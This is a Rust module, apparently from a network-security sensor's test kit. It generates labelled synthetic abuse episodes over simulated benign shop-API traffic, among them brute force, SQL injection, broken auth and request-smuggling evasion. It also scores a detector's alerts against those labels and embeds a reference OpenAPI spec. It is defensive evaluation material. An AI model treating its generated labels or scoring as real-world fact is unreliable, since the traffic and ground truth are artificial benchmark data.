        (Kind::BruteForce, _) => brute_force(cx, t0),
        (Kind::DistributedStuffing, _) => distributed(cx, t0),
        (Kind::CredentialSharing, _) => sharing(cx, t0),
        (Kind::Enumeration, _) => enumeration(cx, t0),
        (Kind::Scraping, _) => scraping(cx, t0),
        (Kind::Injection, s) => injection(cx, t0, s.unwrap_or("sql_injection")),
        (Kind::RateSpike, _) => rate_spike(cx, t0),
        (Kind::DataExposure, Some("bulk")) => exposure_bulk(cx, t0),
        (Kind::DataExposure, _) => exposure_new_class(cx, t0),
        (Kind::BrokenAuth, s) => broken_auth(cx, t0, s.unwrap_or("missing_auth")),
        (Kind::ShadowEndpoint, _) => shadow(cx, t0),
        (Kind::OffHours, _) => off_hours(cx, t0),
        (Kind::ProtocolEvasion, s) => protocol_evasion(cx, t0, s.unwrap_or("te_cl")),
    }
}

/// Start times: off-hours episodes at 03:00 of the nights after learning (up to `n_off`), the
/// others spread over business hours (09:30–17:30) after learning, or over the whole
/// post-learning span when business hours leave too little room.
fn schedule(
    rng: &mut Rng,
    w: &World,
    learning_end: u64,
    n_off: usize,
    n_other: usize,
) -> (Vec<u64>, Vec<u64>) {
    let lo = learning_end + 5 * MINUTE;
    let hi = w.end_ns.saturating_sub(30 * MINUTE);
    let mut off = Vec::new();
    let mut day = learning_end - learning_end % DAY;
    while day < w.end_ns && off.len() < n_off {
        let t = day + 3 * HOUR;
        if t >= lo && t + 40 * MINUTE <= w.end_ns {
            off.push(t);
        }
        day += DAY;
    }
    let mut spans: Vec<(u64, u64)> = Vec::new();
    let mut day = lo - lo % DAY;
    while day < hi {
        let (a, b) = (
            (day + 9 * HOUR + 30 * MINUTE).max(lo),
            (day + 17 * HOUR + 30 * MINUTE).min(hi),
        );
        if a < b {
            spans.push((a, b));
        }
        day += DAY;
    }
    let total: u64 = spans.iter().map(|(a, b)| b - a).sum();
    if total < n_other as u64 * 10 * MINUTE {
        spans = vec![(lo.min(hi), hi.max(lo + MINUTE))];
    }
    let total: u64 = spans.iter().map(|(a, b)| b - a).sum();
    let slot = total / n_other.max(1) as u64;
    let starts = (0..n_other)
        .map(|i| {
            let mut x = slot * i as u64 + rng.below(slot / 5 + 1);
            for &(a, b) in &spans {
                if x < b - a {
                    return a + x;
                }
                x -= b - a;
            }
            hi
        })
        .collect();
    (off, starts)
}

// ---------------------------------------------------------------------------------------------
// Assembly

/// One transaction as sent, for tests.
#[derive(Clone, Debug)]
#[cfg_attr(not(test), allow(dead_code))]
struct Sent {
    /// The episode's id, None for background.
    episode: Option<String>,
    client: SocketAddr,
    at: u64,
    request: Vec<u8>,
    response: Vec<u8>,
}

fn build(s: &AbuseScenario, keep: bool) -> (AbuseTraffic, Vec<Sent>) {
    let mut rng = Rng::new(s.seed);
    let w = make_world(s, &mut rng);
    let mut rendered = Vec::new();
    let mut sent = Vec::new();
    let mut benign = 0u64;
    // Client ports per address (several actors may share one: an office's NAT).
    let mut bg_ports: BTreeMap<Ipv4Addr, u16> = BTreeMap::new();

    // The background: its own random stream, so it is the same with or without episodes.
    for ai in 0..w.actors.len() {
        let starts = session_starts(&w, &mut rng, ai);
        for t in starts {
            let mut conn = benign_session(&w, &mut rng, ai, t);
            let ip = w.actors[ai].ip;
            let first = rng.range(32_768, 40_000) as u16;
            let next = bg_ports.entry(ip).or_insert(first);
            let port = *next;
            *next = match next.checked_add(1 + rng.below(3) as u16) {
                Some(n) if n < 60_999 => n,
                _ => 32_768,
            };
            conn.client.set_port(port);
            let r = render_conn(&mut rng, &conn);
            benign += conn.txs.len() as u64;
            if keep {
                for (tx, (at, _)) in conn.txs.into_iter().zip(&r.times) {
                    sent.push(Sent {
                        episode: None,
                        client: conn.client,
                        at: *at,
                        request: tx.req,
                        response: tx.resp,
                    });
                }
            }
            rendered.push(r.frames);
        }
    }

    let learning_end = w.start_ns + s.learning_hours.min(s.hours.saturating_sub(1)) * HOUR;
    let mut episodes = Vec::new();
    if s.episodes {
        let mut cx = EpCtx {
            w: &w,
            rng: Rng::new(s.seed ^ 0xA5A5_5A5A_0F0F_F0F0),
            attackers: Attackers(0),
            used: BTreeSet::new(),
        };
        let rounds = s.rounds.max(1);
        let mut plan = Vec::new();
        for _ in 0..rounds {
            plan.extend(
                episode_plan()
                    .into_iter()
                    .filter(|(k, _)| *k != Kind::OffHours),
            );
        }
        cx.rng.shuffle(&mut plan);
        let (offs, _) = schedule(&mut cx.rng, &w, learning_end, rounds, 0);
        // Off-hours episodes without a night in the span take the slots after the plan's.
        let extra = rounds - offs.len();
        let (_, starts) = schedule(&mut cx.rng, &w, learning_end, 0, plan.len() + extra);
        let mut jobs: Vec<(Kind, Option<&str>, u64)> = plan
            .iter()
            .zip(&starts)
            .map(|(&(k, sub), &t)| (k, sub, t))
            .collect();
        jobs.extend(
            offs.iter()
                .chain(&starts[plan.len().min(starts.len())..])
                .map(|&t| (Kind::OffHours, None, t)),
        );
        let mut ports = Ports::default();
        let mut counts: BTreeMap<(Kind, Option<&str>), usize> = BTreeMap::new();
        for (kind, sub, t0) in jobs {
            let d = draft(&mut cx, kind, sub, t0);
            let n = counts.entry((kind, d.subkind)).or_default();
            *n += 1;
            let id = match d.subkind {
                Some(sub) => format!("{}-{sub}-{n}", kind.as_str()),
                None => format!("{}-{n}", kind.as_str()),
            };
            let (mut start, mut end, mut txn) = (u64::MAX, 0u64, 0u64);
            let mut clients = BTreeSet::new();
            for mut conn in d.conns {
                let IpAddr::V4(ip) = conn.client.ip() else {
                    continue;
                };
                conn.client = ports.next(ip);
                let r = render_conn(&mut cx.rng, &conn);
                for &(a, b) in &r.times {
                    start = start.min(a);
                    end = end.max(b);
                }
                txn += conn.txs.len() as u64;
                clients.insert(conn.client.ip());
                if keep {
                    for (tx, (at, _)) in conn.txs.into_iter().zip(&r.times) {
                        sent.push(Sent {
                            episode: Some(id.clone()),
                            client: conn.client,
                            at: *at,
                            request: tx.req,
                            response: tx.resp,
                        });
                    }
                }
                rendered.push(r.frames);
            }
            episodes.push(Episode {
                id,
                kind: d.kind,
                subkind: d.subkind.map(str::to_string),
                start_ns: start,
                end_ns: end,
                clients: clients.into_iter().collect(),
                identity_secret: d.secret,
                transactions: txn,
                routes: d.routes.iter().map(|r| r.to_string()).collect(),
            });
        }
        episodes.sort_by_key(|e| (e.start_ns, e.id.clone()));
    }
    let frames = merge(rendered);
    let end_ns = frames
        .last()
        .map_or(w.end_ns, |f| f.0.as_nanos().max(w.end_ns));
    let episode_tx: u64 = episodes.iter().map(|e| e.transactions).sum();
    let labels = Labels {
        seed: s.seed,
        start_ns: w.start_ns,
        end_ns,
        learning_end_ns: learning_end,
        transactions: benign + episode_tx,
        benign_transactions: benign,
        episodes,
    };
    (
        AbuseTraffic {
            frames,
            spec_yaml: SPEC.to_string(),
            labels,
        },
        sent,
    )
}

// ---------------------------------------------------------------------------------------------
// Scoring

/// How a detector did against the labels.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Score {
    pub kinds: Vec<KindScore>,
    pub episodes: Vec<EpisodeScore>,
    /// Distinct alerts (dedup keys) and their revisions.
    pub alerts: u64,
    pub revisions: u64,
    /// Alerts that match no episode.
    pub false_alerts: Vec<FalseAlert>,
    pub transactions: u64,
    pub false_alerts_per_10k: f64,
    /// Episodes detected by their kind's detector, of all episodes.
    pub detected: u64,
    pub episode_count: u64,
    /// Median time to detect over every detected episode.
    pub ttd_median_s: Option<f64>,
    /// Lines that were not alerts (no detector id or no readable time).
    pub unreadable: u64,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct KindScore {
    pub kind: Kind,
    pub episodes: u64,
    /// Episodes found by the kind's own detector.
    pub detected: u64,
    pub recall: f64,
    /// Time to detect: first matching alert of the kind's detector − episode start.
    pub ttd_median_s: Option<f64>,
    pub ttd_max_s: Option<f64>,
    /// Alerts (dedup keys, any detector) that matched an episode of this kind.
    pub alerts: u64,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct EpisodeScore {
    pub id: String,
    pub kind: Kind,
    pub subkind: Option<String>,
    pub detected: bool,
    pub ttd_s: Option<f64>,
    /// Detector ids of the alerts that matched it.
    pub detectors: Vec<String>,
    pub alerts: u64,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct FalseAlert {
    pub dedup_key: String,
    pub detector: String,
    pub title: String,
    /// Packet time of its first revision, nanoseconds.
    pub time_ns: u64,
    pub client_ip: Option<IpAddr>,
    pub route: Option<String>,
}

/// The fields of an alert revision the scorer reads.
struct View {
    key: String,
    detector: String,
    time: u64,
    client: Option<IpAddr>,
    route: Option<String>,
    title: String,
}

fn view(a: &Value) -> Option<View> {
    let detector = a.pointer("/detector/id")?.as_str()?.to_string();
    let time = match a.get("time")? {
        Value::String(s) => parse_rfc3339(s)?,
        Value::Number(n) => n.as_u64()?,
        _ => return None,
    };
    let key = a
        .get("dedup_key")
        .or_else(|| a.get("alert_id"))
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_string();
    let client = a
        .pointer("/client/ip")
        .and_then(Value::as_str)
        .and_then(|s| s.parse().ok());
    let route = a
        .pointer("/http/route")
        .and_then(Value::as_str)
        .map(str::to_string);
    let title = a
        .get("title")
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_string();
    Some(View {
        key,
        detector,
        time,
        client,
        route,
        title,
    })
}

/// Nanoseconds since the epoch of an RFC 3339 time (`Z` or an offset, any fraction digits).
pub fn parse_rfc3339(s: &str) -> Option<u64> {
    let b = s.as_bytes();
    let num = |r: std::ops::Range<usize>| -> Option<i64> {
        let d = b.get(r)?;
        d.iter().try_fold(0i64, |acc, &c| {
            c.is_ascii_digit().then(|| acc * 10 + i64::from(c - b'0'))
        })
    };
    if b.len() < 20 || b[4] != b'-' || b[7] != b'-' || !matches!(b[10], b'T' | b't' | b' ') {
        return None;
    }
    let (y, mo, d) = (num(0..4)?, num(5..7)?, num(8..10)?);
    let (h, mi, sec) = (num(11..13)?, num(14..16)?, num(17..19)?);
    if !(1..=12).contains(&mo) || !(1..=31).contains(&d) || h > 23 || mi > 59 || sec > 60 {
        return None;
    }
    let mut i = 19;
    let mut nanos = 0u64;
    if b.get(i) == Some(&b'.') {
        i += 1;
        let start = i;
        while b.get(i).is_some_and(u8::is_ascii_digit) {
            if i - start < 9 {
                nanos = nanos * 10 + u64::from(b[i] - b'0');
            }
            i += 1;
        }
        if i == start {
            return None;
        }
        nanos *= 10u64.pow(9 - (i - start).min(9) as u32);
    }
    let offset = match b.get(i) {
        Some(b'Z' | b'z') if b.len() == i + 1 => 0,
        Some(&c @ (b'+' | b'-')) if b.len() == i + 6 => {
            let o = num(i + 1..i + 3)? * 3600 + num(i + 4..i + 6)? * 60;
            if c == b'-' {
                -o
            } else {
                o
            }
        }
        _ => return None,
    };
    // Days from civil (Howard Hinnant's algorithm).
    let y = if mo <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (mo + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + h * 3600 + mi * 60 + sec - offset;
    u64::try_from(secs).ok().map(|s| s * NS + nanos)
}

/// `METHOD /path` or `/path` (a host before the path and a query after it are ignored).
fn split_route(r: &str) -> (Option<&str>, &str) {
    let r = r.trim();
    let (method, rest) = match r.split_once(' ') {
        Some((m, rest)) if !m.is_empty() && m.bytes().all(|c| c.is_ascii_uppercase()) => {
            (Some(m), rest.trim())
        }
        _ => (None, r),
    };
    let path = match rest.find('/') {
        Some(i) => &rest[i..],
        None => rest,
    };
    let path = path.split('?').next().unwrap_or(path);
    (method, path)
}

fn route_matches(alert: &str, routes: &[String]) -> bool {
    if routes.is_empty() {
        return true;
    }
    let (am, ap) = split_route(alert);
    routes.iter().any(|r| {
        let (m, p) = split_route(r);
        (am.is_none() || m.is_none() || am == m) && crate::api::same_route(ap, p)
    })
}

fn matches(v: &View, e: &Episode) -> bool {
    let detector_ok = v.detector == e.kind.detector() || v.detector == ANOMALY_MODEL;
    // Alert times are written to the microsecond: an alert on the episode's first request
    // reads up to 999 ns before it.
    let start = e.start_ns - e.start_ns % 1_000;
    let time_ok = v.time >= start && v.time <= e.end_ns.saturating_add(DETECT_SLACK_NS);
    let scope_ok = match v.client {
        Some(ip) => e.clients.contains(&ip),
        None => v
            .route
            .as_deref()
            .is_none_or(|r| route_matches(r, &e.routes)),
    };
    detector_ok && time_ok && scope_ok
}

fn median(sorted: &[f64]) -> Option<f64> {
    let n = sorted.len();
    match n {
        0 => None,
        _ if n % 2 == 1 => Some(sorted[n / 2]),
        _ => Some((sorted[n / 2 - 1] + sorted[n / 2]) / 2.0),
    }
}

/// Scores canonical alert revisions (JSON values of RECORDS.md §2) against the labels. A
/// revision matches an episode when its detector maps to the episode's kind (or is the
/// anomaly model), its `time` is within [start, end + 10 min], and its `client.ip` is one of
/// the episode's clients, or it has none and its `http.route` (if any) is one of the episode's
/// routes. Alerts are counted per `dedup_key`; one that matches no episode is a false alert.
pub fn score(labels: &Labels, alerts: &[Value]) -> Score {
    let mut unreadable = 0u64;
    let mut by_key: BTreeMap<String, Vec<View>> = BTreeMap::new();
    let mut revisions = 0u64;
    for a in alerts {
        match view(a) {
            Some(v) => {
                revisions += 1;
                by_key.entry(v.key.clone()).or_default().push(v);
            }
            None => unreadable += 1,
        }
    }
    let n = labels.episodes.len();
    // Per episode: first time its own detector matched, matching detectors, matching keys.
    let mut first: Vec<Option<u64>> = vec![None; n];
    let mut detectors: Vec<BTreeSet<String>> = vec![BTreeSet::new(); n];
    let mut keys_of: Vec<u64> = vec![0; n];
    let mut kind_keys: BTreeMap<Kind, u64> = BTreeMap::new();
    let mut false_alerts = Vec::new();
    for (key, revs) in &by_key {
        let mut hit_kinds = BTreeSet::new();
        let mut hit_eps = BTreeSet::new();
        for v in revs {
            for (i, e) in labels.episodes.iter().enumerate() {
                if !matches(v, e) {
                    continue;
                }
                hit_eps.insert(i);
                hit_kinds.insert(e.kind);
                detectors[i].insert(v.detector.clone());
                if v.detector == e.kind.detector() {
                    first[i] = Some(first[i].map_or(v.time, |t| t.min(v.time)));
                }
            }
        }
        for i in &hit_eps {
            keys_of[*i] += 1;
        }
        for k in hit_kinds {
            *kind_keys.entry(k).or_default() += 1;
        }
        if hit_eps.is_empty() {
            let v = revs.iter().min_by_key(|v| v.time).unwrap_or(&revs[0]);
            false_alerts.push(FalseAlert {
                dedup_key: key.clone(),
                detector: v.detector.clone(),
                title: v.title.clone(),
                time_ns: v.time,
                client_ip: v.client,
                route: v.route.clone(),
            });
        }
    }
    false_alerts.sort_by_key(|f| (f.time_ns, f.dedup_key.clone()));
    let episodes: Vec<EpisodeScore> = labels
        .episodes
        .iter()
        .enumerate()
        .map(|(i, e)| EpisodeScore {
            id: e.id.clone(),
            kind: e.kind,
            subkind: e.subkind.clone(),
            detected: first[i].is_some(),
            ttd_s: first[i].map(|t| t.saturating_sub(e.start_ns) as f64 / NS as f64),
            detectors: detectors[i].iter().cloned().collect(),
            alerts: keys_of[i],
        })
        .collect();
    let kinds = Kind::ALL
        .iter()
        .filter(|k| labels.episodes.iter().any(|e| e.kind == **k))
        .map(|&kind| {
            let eps: Vec<&EpisodeScore> = episodes.iter().filter(|e| e.kind == kind).collect();
            let mut ttd: Vec<f64> = eps.iter().filter_map(|e| e.ttd_s).collect();
            ttd.sort_by(f64::total_cmp);
            let detected = eps.iter().filter(|e| e.detected).count() as u64;
            KindScore {
                kind,
                episodes: eps.len() as u64,
                detected,
                recall: detected as f64 / eps.len().max(1) as f64,
                ttd_median_s: median(&ttd),
                ttd_max_s: ttd.last().copied(),
                alerts: kind_keys.get(&kind).copied().unwrap_or(0),
            }
        })
        .collect();
    let transactions = labels.transactions;
    let mut all_ttd: Vec<f64> = episodes.iter().filter_map(|e| e.ttd_s).collect();
    all_ttd.sort_by(f64::total_cmp);
    Score {
        detected: all_ttd.len() as u64,
        episode_count: episodes.len() as u64,
        ttd_median_s: median(&all_ttd),
        kinds,
        episodes,
        alerts: by_key.len() as u64,
        revisions,
        false_alerts_per_10k: false_alerts.len() as f64 * 10_000.0 / transactions.max(1) as f64,
        false_alerts,
        transactions,
        unreadable,
    }
}

impl Score {
    /// Every kind with episodes was detected.
    pub fn all_kinds_detected(&self) -> bool {
        self.kinds.iter().all(|k| k.detected > 0)
    }

    /// A plain-text table: one line per kind, then the false alerts.
    pub fn table(&self) -> String {
        use std::fmt::Write as _;
        let secs = |v: Option<f64>| v.map_or("-".to_string(), |s| format!("{s:.1}"));
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{:<22} {:>8} {:>8} {:>7} {:>10} {:>10} {:>7}",
            "kind", "episodes", "detected", "recall", "ttd_med_s", "ttd_max_s", "alerts"
        );
        for k in &self.kinds {
            let _ = writeln!(
                out,
                "{:<22} {:>8} {:>8} {:>7.2} {:>10} {:>10} {:>7}",
                k.kind.as_str(),
                k.episodes,
                k.detected,
                k.recall,
                secs(k.ttd_median_s),
                secs(k.ttd_max_s),
                k.alerts
            );
        }
        let _ = writeln!(out);
        for e in &self.episodes {
            let _ = writeln!(
                out,
                "episode {:<42} {:<8} ttd_s={:<8} alerts={} detectors={}",
                e.id,
                if e.detected { "detected" } else { "MISSED" },
                secs(e.ttd_s),
                e.alerts,
                e.detectors.join(",")
            );
        }
        let _ = writeln!(
            out,
            "\ndetected {} of {} episodes, median time to detect {} s",
            self.detected,
            self.episode_count,
            secs(self.ttd_median_s)
        );
        let _ = writeln!(
            out,
            "alerts {} ({} revisions), false alerts {} = {:.3} per 10k of {} transactions{}",
            self.alerts,
            self.revisions,
            self.false_alerts.len(),
            self.false_alerts_per_10k,
            self.transactions,
            if self.unreadable > 0 {
                format!(", {} unreadable lines", self.unreadable)
            } else {
                String::new()
            }
        );
        for f in &self.false_alerts {
            let _ = writeln!(
                out,
                "false {} {} client={} route={} {:?} ({})",
                iso_time(f.time_ns / NS),
                f.detector,
                f.client_ip.map_or("-".to_string(), |ip| ip.to_string()),
                f.route.as_deref().unwrap_or("-"),
                f.title,
                f.dedup_key
            );
        }
        out
    }
}

/// The reference spec: every benign route; `/api/v1/internal/export` is not in it.
pub const SPEC: &str = r#"openapi: 3.1.0
info:
  title: Shop API
  version: 1.9.0
  description: Public API of the shop (api.shop.test).
servers:
  - url: http://api.shop.test
security:
  - bearerJwt: []
paths:
  /api/v1/login:
    post:
      operationId: login
      summary: Exchange a user name and password for a token
      security: []
      requestBody:
        required: true
        content:
          application/json:
            schema:
              $ref: '#/components/schemas/LoginRequest'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/LoginResponse'
        '401':
          $ref: '#/components/responses/Error'
  /api/v1/products:
    get:
      operationId: listProducts
      summary: List products
      security:
        - {}
        - bearerJwt: []
        - apiKeyHeader: []
      parameters:
        - $ref: '#/components/parameters/Page'
        - $ref: '#/components/parameters/Limit'
        - name: category
          in: query
          schema: {type: string}
        - name: updated_since
          in: query
          schema: {type: string, format: date}
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/ProductList'
  /api/v1/products/{sku}:
    get:
      operationId: getProduct
      summary: Get a product
      security:
        - {}
        - bearerJwt: []
      parameters:
        - name: sku
          in: path
          required: true
          schema: {type: string, pattern: '^SKU-[0-9]{6}$'}
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/Product'
        '404':
          $ref: '#/components/responses/Error'
  /api/v1/search:
    get:
      operationId: searchProducts
      summary: Search the catalogue
      security:
        - {}
        - bearerJwt: []
      parameters:
        - name: q
          in: query
          required: true
          schema: {type: string}
        - $ref: '#/components/parameters/Page'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/SearchResults'
  /api/v1/users/{userId}:
    get:
      operationId: getUser
      summary: The calling user's account
      parameters:
        - $ref: '#/components/parameters/UserId'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/User'
        '401':
          $ref: '#/components/responses/Error'
        '403':
          $ref: '#/components/responses/Error'
        '404':
          $ref: '#/components/responses/Error'
  /api/v1/users/{userId}/orders:
    get:
      operationId: listUserOrders
      summary: The calling user's orders
      parameters:
        - $ref: '#/components/parameters/UserId'
        - $ref: '#/components/parameters/Page'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/OrderList'
        '401':
          $ref: '#/components/responses/Error'
        '403':
          $ref: '#/components/responses/Error'
  /api/v1/orders:
    get:
      operationId: listOrders
      summary: Orders by status (partners)
      security:
        - apiKeyHeader: []
      parameters:
        - name: status
          in: query
          schema: {type: string, enum: [pending, paid, shipped, delivered]}
        - $ref: '#/components/parameters/Page'
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/OrderList'
        '401':
          $ref: '#/components/responses/Error'
    post:
      operationId: createOrder
      summary: Place an order
      requestBody:
        required: true
        content:
          application/json:
            schema:
              $ref: '#/components/schemas/OrderCreate'
      responses:
        '201':
          description: Created
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/OrderCreated'
        '400':
          $ref: '#/components/responses/Error'
        '401':
          $ref: '#/components/responses/Error'
  /api/v1/webhooks:
    post:
      operationId: createWebhook
      summary: Register a webhook (partners)
      security:
        - apiKeyHeader: []
      requestBody:
        required: true
        content:
          application/json:
            schema:
              $ref: '#/components/schemas/WebhookCreate'
      responses:
        '201':
          description: Created
        '400':
          $ref: '#/components/responses/Error'
        '401':
          $ref: '#/components/responses/Error'
  /api/v1/customers:
    get:
      operationId: listCustomers
      summary: Customer directory (support staff)
      security:
        - basicAuth: []
      parameters:
        - $ref: '#/components/parameters/Page'
        - $ref: '#/components/parameters/Limit'
        - name: q
          in: query
          schema: {type: string}
      responses:
        '200':
          description: OK
          content:
            application/json:
              schema:
                $ref: '#/components/schemas/CustomerList'
        '401':
          $ref: '#/components/responses/Error'
  /api/v1/reports/daily:
    get:
      operationId: getDailyReport
      summary: Sales of one day (support staff)
      security:
        - basicAuth: []
      parameters:
        - name: date
          in: query
          required: true
          schema: {type: string, format: date}
      responses:
        '200':
          description: OK
        '401':
          $ref: '#/components/responses/Error'
components:
  securitySchemes:
    bearerJwt:
      type: http
      scheme: bearer
      bearerFormat: JWT
    apiKeyHeader:
      type: apiKey
      in: header
      name: X-API-Key
    basicAuth:
      type: http
      scheme: basic
  parameters:
    Page:
      name: page
      in: query
      schema: {type: integer, minimum: 1}
    Limit:
      name: limit
      in: query
      schema: {type: integer, minimum: 1, maximum: 1000}
    UserId:
      name: userId
      in: path
      required: true
      schema: {type: integer, format: int64, minimum: 1}
  responses:
    Error:
      description: Error
      content:
        application/json:
          schema:
            type: object
            properties:
              error: {type: string}
              message: {type: string}
  schemas:
    LoginRequest:
      type: object
      required: [username, password]
      properties:
        username: {type: string}
        password: {type: string, format: password}
    LoginResponse:
      type: object
      properties:
        token: {type: string}
        token_type: {type: string}
        expires_in: {type: integer}
        user: {type: object, properties: {id: {type: integer}}}
    Product:
      type: object
      properties:
        sku: {type: string}
        name: {type: string}
        category: {type: string}
        price_cents: {type: integer}
        stock: {type: object}
    ProductList:
      type: object
      properties:
        page: {type: integer}
        limit: {type: integer}
        items: {type: array, items: {type: object}}
    SearchResults:
      type: object
      properties:
        results: {type: array, items: {type: object}}
    User:
      type: object
      properties:
        id: {type: integer}
        username: {type: string}
        display_name: {type: string}
        email: {type: string, format: email}
        created_at: {type: string, format: date-time}
        address: {type: object}
    OrderList:
      type: object
      properties:
        user_id: {type: integer}
        orders: {type: array, items: {type: object}}
    OrderCreate:
      type: object
      required: [items]
      properties:
        items: {type: array, items: {type: object}}
        shipping: {type: object}
        coupon: {type: string}
        gift_note: {type: string}
    OrderCreated:
      type: object
      properties:
        id: {type: string, format: uuid}
        status: {type: string}
        total_cents: {type: integer}
    WebhookCreate:
      type: object
      required: [url]
      properties:
        url: {type: string, format: uri}
        events: {type: array, items: {type: string}}
    CustomerList:
      type: object
      properties:
        page: {type: integer}
        limit: {type: integer}
        customers: {type: array, items: {type: object}}
"#;

#[cfg(test)]
mod tests {
    use std::collections::{BTreeMap, BTreeSet};
    use std::io::Read as _;
    use std::sync::OnceLock;

    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    use super::*;
    use crate::api::luhn_valid;

    fn small_run() -> &'static (AbuseTraffic, Vec<Sent>) {
        static RUN: OnceLock<(AbuseTraffic, Vec<Sent>)> = OnceLock::new();
        RUN.get_or_init(|| build(&AbuseScenario::small(3), true))
    }

    #[derive(Debug)]
    struct Msg {
        start_line: String,
        headers: Vec<(String, String)>,
        /// Without transfer and content coding.
        body: Vec<u8>,
    }

    impl Msg {
        fn header(&self, name: &str) -> Option<&str> {
            self.all(name).into_iter().next()
        }

        fn all(&self, name: &str) -> Vec<&str> {
            self.headers
                .iter()
                .filter(|(k, _)| k.eq_ignore_ascii_case(name))
                .map(|(_, v)| v.as_str())
                .collect()
        }

        fn method(&self) -> &str {
            self.start_line.split(' ').next().unwrap()
        }

        fn target(&self) -> &str {
            self.start_line.split(' ').nth(1).unwrap()
        }

        fn path(&self) -> &str {
            self.target().split('?').next().unwrap()
        }

        fn status(&self) -> u16 {
            self.start_line.split(' ').nth(1).unwrap().parse().unwrap()
        }

        fn json(&self) -> Value {
            serde_json::from_slice(&self.body).unwrap_or(Value::Null)
        }

        /// The bearer token's claims and header.
        fn jwt(&self) -> Option<(Value, Value)> {
            let tok = self.header("Authorization")?.strip_prefix("Bearer ")?;
            let mut parts = tok.split('.');
            let dec = |p: &str| -> Option<Value> {
                let b = base64::engine::general_purpose::URL_SAFE_NO_PAD
                    .decode(p)
                    .ok()?;
                serde_json::from_slice(&b).ok()
            };
            Some((dec(parts.next()?)?, dec(parts.next()?)?))
        }

        /// Everything an injection could hide in: the decoded target and the body.
        fn text(&self) -> String {
            format!(
                "{} {}",
                unpct(self.target()),
                String::from_utf8_lossy(&self.body)
            )
        }
    }

    fn unpct(s: &str) -> String {
        let b = s.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'%' && i + 2 < b.len() {
                if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                    out.push(v);
                    i += 3;
                    continue;
                }
            }
            out.push(b[i]);
            i += 1;
        }
        String::from_utf8_lossy(&out).into_owned()
    }

    fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
        hay.windows(needle.len()).position(|w| w == needle)
    }

    /// One message at the start of `data` and its length, framed as the sensor frames it
    /// (chunked over Content-Length, the largest of differing Content-Lengths).
    fn parse_message(data: &[u8]) -> (Msg, usize) {
        let end = find(data, b"\r\n\r\n").expect("end of head");
        let head = std::str::from_utf8(&data[..end]).expect("ASCII head");
        let mut lines = head.split("\r\n");
        let start_line = lines.next().unwrap().to_string();
        let headers = lines
            .map(|l| {
                let (k, v) = l.split_once(": ").expect("header line");
                (k.to_string(), v.to_string())
            })
            .collect();
        let mut msg = Msg {
            start_line,
            headers,
            body: Vec::new(),
        };
        let mut pos = end + 4;
        if msg.header("Transfer-Encoding") == Some("chunked") {
            loop {
                let eol = pos + find(&data[pos..], b"\r\n").expect("chunk size line");
                let size = usize::from_str_radix(std::str::from_utf8(&data[pos..eol]).unwrap(), 16)
                    .unwrap();
                pos = eol + 2;
                if size == 0 {
                    pos += 2;
                    break;
                }
                msg.body.extend_from_slice(&data[pos..pos + size]);
                pos += size + 2;
            }
        } else {
            let n = msg
                .all("Content-Length")
                .iter()
                .map(|v| v.parse::<usize>().unwrap())
                .max()
                .unwrap_or(0);
            msg.body = data[pos..pos + n].to_vec();
            pos += n;
        }
        if msg.header("Content-Encoding") == Some("gzip") {
            let mut plain = Vec::new();
            flate2::read::GzDecoder::new(&msg.body[..])
                .read_to_end(&mut plain)
                .expect("valid gzip");
            msg.body = plain;
        }
        (msg, pos)
    }

    fn parse_one(data: &[u8]) -> Msg {
        let (m, n) = parse_message(data);
        assert_eq!(n, data.len(), "one message exactly");
        m
    }

    fn parse_stream(mut data: &[u8]) -> Vec<Msg> {
        let mut out = Vec::new();
        while !data.is_empty() {
            let (m, n) = parse_message(data);
            out.push(m);
            data = &data[n..];
        }
        out
    }

    struct Parsed<'a> {
        sent: &'a Sent,
        req: Msg,
        resp: Msg,
    }

    fn parsed<'a>(sent: &'a [Sent], episode: Option<&str>) -> Vec<Parsed<'a>> {
        sent.iter()
            .filter(|s| s.episode.as_deref() == episode)
            .map(|s| Parsed {
                sent: s,
                req: parse_one(&s.request),
                resp: parse_one(&s.response),
            })
            .collect()
    }

    fn episode<'a>(l: &'a Labels, id: &str) -> &'a Episode {
        l.episodes
            .iter()
            .find(|e| e.id == id)
            .unwrap_or_else(|| panic!("no episode {id}"))
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let (a, _) = small_run();
        let b = generate(&AbuseScenario::small(3));
        assert!(a.frames == b.frames, "same seed, same frames");
        assert_eq!(a.labels, b.labels);
        let c = generate(&AbuseScenario::small(4));
        assert!(a.frames != c.frames);
        assert_eq!(
            Labels::from_json(&a.labels.to_json()).unwrap(),
            a.labels,
            "labels round-trip through JSON"
        );
    }

    /// Written as a pcap and read back by the sensor's own reader, the capture holds exactly
    /// the labelled transactions, each request answered.
    #[test]
    fn pcap_reads_back_with_the_labelled_counts() {
        let (t, sent) = small_run();
        let l = &t.labels;
        let path = std::env::temp_dir().join(format!("testkit-abuse-{}.pcap", std::process::id()));
        t.write_pcap(&path).unwrap();
        let mut reader = capture::FileReader::open(&path).unwrap();
